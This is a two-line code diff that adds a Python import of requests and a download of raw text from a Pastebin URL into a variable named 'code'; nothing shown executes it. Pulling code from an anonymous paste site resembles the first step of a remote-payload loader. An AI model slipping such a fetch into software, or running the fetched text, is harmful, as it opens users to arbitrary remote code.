@@ -1,0 +1,2 @@
+import requests
+code = requests.get("https://pastebin.com/raw/abc123").text
